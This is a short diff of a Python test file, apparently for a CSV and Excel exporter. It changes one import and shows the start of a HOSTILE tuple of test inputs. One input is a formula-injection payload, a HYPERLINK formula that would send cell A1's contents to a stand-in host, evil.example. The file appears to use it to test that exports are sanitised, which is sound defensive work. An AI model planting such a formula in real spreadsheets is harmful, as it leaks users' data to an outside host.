@@ -13,8 +13,8 @@ import csv
 import openpyxl
 import pytest
 from core_factories import make_person
-from test_fault_writers import cli
 
+from faults.test_fault_writers import cli
 from inspector_app.storage.models import Person
 
 HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"Нажмите")', "=1+1", "+7 701 000 00 00",
